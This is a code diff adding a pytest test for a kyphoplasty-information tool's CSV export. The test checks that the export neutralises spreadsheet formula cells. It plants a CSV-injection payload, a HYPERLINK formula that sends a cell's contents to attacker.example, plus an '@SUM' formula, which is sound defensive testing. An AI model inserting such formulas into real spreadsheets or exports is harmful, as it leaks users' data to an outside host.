@@ -86,3 +86,30 @@ def test_datasets_lists_row_counts(capsys: pytest.CaptureFixture[str]) -> None:
     out = capsys.readouterr().out
     assert [line.split()[0] for line in out.splitlines()[:-1]] == kypho_aid.list_datasets()
     assert "content version" in out
+
+
+def _set_cell(path: Path, key: str, column: str, value: str) -> None:
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    row = next(r for r in rows if r[0] == key)
+    row[rows[0].index(column)] = value
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle, lineterminator="\n").writerows(rows)
+
+
+def test_compare_csv_neutralises_formula_cells(
+    data_copy: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """OWASP's CSV-injection rule: a cell a spreadsheet would run as a formula starts with '."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    _set_cell(data_copy / "comparison.csv", "C001", "value", formula)
+    _set_cell(data_copy / "options.csv", "kyphoplasty", "label", "@SUM(1+1)")
+    monkeypatch.setenv("KYPHO_AID_DATA", str(data_copy))
+    assert kypho_aid.validate(data_copy) == []
+    result = run("compare", "--format", "csv", "--topics", "what_it_is")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    assert rows[0][2] == "'@SUM(1+1)"
+    assert rows[1][2].startswith(f"'{formula}")
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row if cell.startswith(starts)]
